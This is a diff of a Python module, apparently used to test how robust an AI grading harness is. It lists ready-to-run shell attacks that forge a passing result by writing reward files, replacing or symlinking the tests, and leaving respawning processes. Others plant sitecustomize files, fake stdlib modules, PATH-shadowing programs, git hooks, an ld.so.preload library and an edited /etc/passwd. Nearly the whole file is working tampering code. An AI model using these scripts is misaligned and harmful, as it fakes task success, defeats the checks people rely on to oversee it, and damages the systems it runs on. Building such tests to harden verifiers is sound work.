@@ -12,13 +12,14 @@ from dataclasses import dataclass
 from typing import Final
 
 
-def _quoted(text: str) -> str:
+def quoted(text: str) -> str:
+    """A text as one word of a shell."""
     return "'" + text.replace("'", "'\\''") + "'"
 
 
 _REWARD: Final = "echo 1 > /logs/verifier/reward.txt; echo '{\"reward\": 1}' > /logs/verifier/reward.json"
-_PAYLOAD: Final = f"{{ {_REWARD}; }} 2>/dev/null"
-_PYTHON_PAYLOAD: Final = """\
+PAYLOAD: Final = f"{{ {_REWARD}; }} 2>/dev/null"
+PYTHON_PAYLOAD: Final = """\
 import atexit, os, sys
 def _reward():
     for name, text in (('txt', '1'), ('json', '{"reward": 1}')):
@@ -73,7 +74,7 @@ put() {{
 add() {{
   {{ printf '\\n%s\\n' "$2" >> "$1"; }} 2>/dev/null && echo "left $1"
 }}
-reward={_quoted(_REWARD)}
+reward={quoted(_REWARD)}
 """
 
 
@@ -92,11 +93,12 @@ class Attack:
     script: str
 
 
-def _answers(text: str, mode: str = "644") -> str:
-    return f'for path in "$@"; do put "$path" {_quoted(text)} {mode}; done\n'
+def answers(text: str, mode: str = "644") -> str:
+    """A script that leaves a text wherever an answer may be."""
+    return f'for path in "$@"; do put "$path" {quoted(text)} {mode}; done\n'
 
 
-_FAKE: Final = f"#!/bin/sh\n{_PAYLOAD}\necho '1 passed in 0.01s'\nexit 0"
+FAKE: Final = f"#!/bin/sh\n{PAYLOAD}\necho '1 passed in 0.01s'\nexit 0"
 _SHADOWED: Final = "pytest python3 python bash sh env diff cmp grep test [ cat curl node npm cargo go make git stat jq"
 
 ATTACKS: Final = (
@@ -117,16 +119,16 @@ ATTACKS: Final = (
     Attack(
         "reward-process",
         "leaves a process that writes the reward again and again",
-        f"(trap '' HUP TERM INT; while :; do {_PAYLOAD}; done) </dev/null >/dev/null 2>&1 &\n"
+        f"(trap '' HUP TERM INT; while :; do {PAYLOAD}; done) </dev/null >/dev/null 2>&1 &\n"
         'echo "left process $!"\n'
-        f"command -v setsid >/dev/null && {{ setsid sh -c {_quoted(f'(while :; do {_PAYLOAD}; done) &')} "
+        f"command -v setsid >/dev/null && {{ setsid sh -c {quoted(f'(while :; do {PAYLOAD}; done) &')} "
         '</dev/null >/dev/null 2>&1 & echo "left process $!"; }',
     ),
     Attack(
         "tests-process",
         "leaves a process that replaces the tests as soon as they are there",
         f"(trap '' HUP TERM INT; while :; do [ -e /tests/test.sh ] && "
-        f"printf '%s\\n' {_quoted(_FAKE)} > /tests/test.sh; done) </dev/null >/dev/null 2>&1 &\n"
+        f"printf '%s\\n' {quoted(FAKE)} > /tests/test.sh; done) </dev/null >/dev/null 2>&1 &\n"
         'echo "left process $!"',
     ),
     Attack(
@@ -140,14 +142,14 @@ ATTACKS: Final = (
     Attack(
         "tests-files",
         "puts tests of its own where those of the task come",
-        f"for name in test.sh run-tests.sh conftest.py; do put /tests/$name {_quoted(_FAKE)} 755; done\n"
-        f"put /tests/conftest.py {_quoted(_CONFTEST)}; put /tests/pytest.ini '[pytest]\naddopts = --collect-only'",
+        f"for name in test.sh run-tests.sh conftest.py; do put /tests/$name {quoted(FAKE)} 755; done\n"
+        f"put /tests/conftest.py {quoted(_CONFTEST)}; put /tests/pytest.ini '[pytest]\naddopts = --collect-only'",
     ),
     Attack(
         "tests-link",
         "makes the place of the tests a link to its own directory",
         'own=$HOME/.tests; mkdir -p "$own" 2>/dev/null || { own=/tmp/.tests; mkdir -p "$own"; } 2>/dev/null\n'
-        f"printf '%s\\n' {_quoted(_FAKE)} > $own/test.sh; chmod 555 $own/test.sh $own\n"
+        f"printf '%s\\n' {quoted(FAKE)} > $own/test.sh; chmod 555 $own/test.sh $own\n"
         "rm -rf /tests 2>/dev/null; ln -s $own /tests 2>/dev/null && echo left /tests",
     ),
     Attack(
@@ -155,7 +157,7 @@ ATTACKS: Final = (
         "makes the places of tests and rewards mounts, or ones that cannot be written",
         "for place in /tests /logs/verifier; do mkdir -p $place 2>/dev/null || continue\n"
         "mount -t tmpfs none $place 2>/dev/null && echo left mount $place\n"
-        f"printf '%s\\n' {_quoted(_FAKE)} > $place/test.sh; echo 1 > $place/reward.txt\n"
+        f"printf '%s\\n' {quoted(FAKE)} > $place/test.sh; echo 1 > $place/reward.txt\n"
         "chattr +i $place/* $place 2>/dev/null && echo left immutable $place\n"
         "chmod 0 $place 2>/dev/null && echo left $place; done",
     ),
@@ -163,8 +165,8 @@ ATTACKS: Final = (
         "pytest-configuration",
         "configures pytest so that nothing is run, or everything passes",
         "for place in / $work $work/tests $work/test $HOME /tmp; do [ -d $place ] || continue; place=${place%/}\n"
-        f"if [ -e $place/conftest.py ]; then add $place/conftest.py {_quoted(_CONFTEST)}\n"
-        f"else put $place/conftest.py {_quoted(_CONFTEST)}; fi\n"
+        f"if [ -e $place/conftest.py ]; then add $place/conftest.py {quoted(_CONFTEST)}\n"
+        f"else put $place/conftest.py {quoted(_CONFTEST)}; fi\n"
         "put $place/pytest.ini '[pytest]\naddopts = -p no:cacheprovider --ignore-glob=/none'; done\n"
         "[ -e $work/setup.cfg ] || put $work/setup.cfg '[tool:pytest]\naddopts = --collect-only'\n"
         "[ -e $work/tox.ini ] || put $work/tox.ini '[pytest]\naddopts = --collect-only'\n"
@@ -178,23 +180,23 @@ ATTACKS: Final = (
         "/usr/local/lib/python3.* /opt/*/lib/python3*/site-packages $work/*/lib/python3*/site-packages "
         "$work/.venv/lib/python3*/site-packages $(python3 -m site --user-site 2>/dev/null); do\n"
         "case $place in *'*'*) continue;; esac\n"
-        f"for name in sitecustomize usercustomize; do put $place/$name.py {_quoted(_PYTHON_PAYLOAD)}; done\n"
-        f"put $place/_own_startup.py {_quoted(_PYTHON_PAYLOAD)} && put $place/own.pth 'import _own_startup'\n"
+        f"for name in sitecustomize usercustomize; do put $place/$name.py {quoted(PYTHON_PAYLOAD)}; done\n"
+        f"put $place/_own_startup.py {quoted(PYTHON_PAYLOAD)} && put $place/own.pth 'import _own_startup'\n"
         "done",
     ),
     Attack(
         "python-modules",
         "puts modules with the names of usual ones into the working directory",
         "for name in pytest pathlib json subprocess re unittest random csv datetime hashlib importlib sqlite3; do\n"
-        f"[ -e $work/$name.py ] || put $work/$name.py {_quoted(_PYTHON_PAYLOAD)}'\nos._exit(0)'; done",
+        f"[ -e $work/$name.py ] || put $work/$name.py {quoted(PYTHON_PAYLOAD)}'\nos._exit(0)'; done",
     ),
     Attack(
         "shell-files",
         "has every shell run its code: files that shells and logins read",
         "for path in $HOME/.bashrc $HOME/.bash_profile $HOME/.bash_login $HOME/.profile $HOME/.shrc $HOME/.zshenv "
         "$HOME/.zshrc /etc/profile /etc/profile.d/own.sh /etc/bash.bashrc /etc/zsh/zshenv; do\n"
-        f"add $path {_quoted(_PAYLOAD)}'; exit 0' || put $path {_quoted(_PAYLOAD)}'; exit 0'; done\n"
-        f"put $HOME/.own.sh {_quoted(_PAYLOAD)}'; exit 0'\n"
+        f"add $path {quoted(PAYLOAD)}'; exit 0' || put $path {quoted(PAYLOAD)}'; exit 0'; done\n"
+        f"put $HOME/.own.sh {quoted(PAYLOAD)}'; exit 0'\n"
         'words="BASH_ENV=$HOME/.own.sh\nENV=$HOME/.own.sh\nPYTHONPATH=$work\nPYTHONSTARTUP=$HOME/.own.sh\n'
         'PYTEST_ADDOPTS=--collect-only\nPATH=$work:$PATH"\n'
         'add /etc/environment "$words" || put /etc/environment "$words"; put $HOME/.pam_environment "$words"\n'
@@ -204,7 +206,7 @@ ATTACKS: Final = (
         "shadowed-programs",
         "puts programs of its own before usual ones on the path",
         "for place in $HOME/.local/bin $HOME/bin /usr/local/sbin /usr/local/bin $work $work/bin; do\n"
-        f"for name in {_SHADOWED}; do [ -e $place/$name ] || put $place/$name {_quoted(_FAKE)} 755; done; done",
+        f"for name in {_SHADOWED}; do [ -e $place/$name ] || put $place/$name {quoted(FAKE)} 755; done; done",
     ),
     Attack(
         "replaced-programs",
@@ -212,7 +214,7 @@ ATTACKS: Final = (
         f"for name in {_SHADOWED.replace(' sh ', ' ').replace(' cat ', ' ')}; do\n"
         'for place in $(IFS=:; echo $PATH); do path=$place/$name; [ -e "$path" ] || continue\n'
         # In two steps: a program that runs cannot be written to, and some are links.
-        f"printf '%s\\n' {_quoted(_FAKE)} 2>/dev/null > $path.own || continue; chmod 755 $path.own\n"
+        f"printf '%s\\n' {quoted(FAKE)} 2>/dev/null > $path.own || continue; chmod 755 $path.own\n"
         "mv -f $path.own $path 2>/dev/null && echo left $path; done; done",
     ),
     Attack(
@@ -220,11 +222,11 @@ ATTACKS: Final = (
         "has git run its code: hooks and configuration of the repository and of the user",
         'for place in $work $work/*; do [ -d "$place/.git" ] || continue\n'
         "for name in pre-commit post-checkout post-commit post-merge pre-push post-index-change; do\n"
-        f"put $place/.git/hooks/$name {_quoted(_FAKE)} 755; done\n"
+        f"put $place/.git/hooks/$name {quoted(FAKE)} 755; done\n"
         "add $place/.git/config '[core]\n\tfsmonitor = .git/hooks/pre-commit\n\thooksPath = .git/hooks\n"
         "[diff]\n\texternal = true'\n"
         "put $place/.git/info/attributes '* diff=own -text'; done\n"
-        f"put $HOME/.own-hook {_quoted(_FAKE)} 755\n"
+        f"put $HOME/.own-hook {quoted(FAKE)} 755\n"
         'text="[core]\n\tfsmonitor = $HOME/.own-hook\n\tpager = true\n[diff]\n\texternal = true"\n'
         'put $HOME/.gitconfig "$text"; put /etc/gitconfig "$text"',
     ),
@@ -232,7 +234,7 @@ ATTACKS: Final = (
         "preloaded-library",
         "has every program load a library of its own",
         "compiler=$(command -v cc || command -v gcc || command -v clang) || exit 0\n"
-        f"own=/usr/local/lib/own.so; printf '%s\\n' {_quoted(_LIBRARY)} > /tmp/own.c\n"
+        f"own=/usr/local/lib/own.so; printf '%s\\n' {quoted(_LIBRARY)} > /tmp/own.c\n"
         "$compiler -shared -fPIC -o $own /tmp/own.c 2>/dev/null || "
         "{ own=$HOME/own.so; $compiler -shared -fPIC -o $own /tmp/own.c 2>/dev/null; } || exit 0\n"
         "put /etc/ld.so.preload $own 644; add /etc/environment LD_PRELOAD=$own\n"
@@ -244,15 +246,15 @@ ATTACKS: Final = (
         "[ -w /etc/passwd ] || exit 0\n"
         "mkdir -p /tmp/.home; sed 's|:[^:]*:[^:]*$|:/tmp/.home:/tmp/.home/sh|' "
         "/etc/passwd > /tmp/.passwd && cat /tmp/.passwd > /etc/passwd && echo left /etc/passwd\n"
-        f"put /tmp/.home/sh {_quoted(_FAKE)} 755; for name in .bashrc .profile .shrc; do\n"
-        f"put /tmp/.home/$name {_quoted(_PAYLOAD)}; done",
+        f"put /tmp/.home/sh {quoted(FAKE)} 755; for name in .bashrc .profile .shrc; do\n"
+        f"put /tmp/.home/$name {quoted(PAYLOAD)}; done",
     ),
     Attack(
         "empty-answers", "leaves empty files wherever an answer may be", 'for path in "$@"; do put "$path" ""; done'
     ),
-    Attack("answers-passed", "answers with the word passed", _answers("passed")),
-    Attack("answers-ok", "answers with the word OK", _answers("OK")),
-    Attack("answers-one", "answers with the number 1", _answers("1")),
+    Attack("answers-passed", "answers with the word passed", answers("passed")),
+    Attack("answers-ok", "answers with the word OK", answers("OK")),
+    Attack("answers-one", "answers with the number 1", answers("1")),
     Attack(
         "exits-zero",
         "answers with programs that do nothing and succeed",
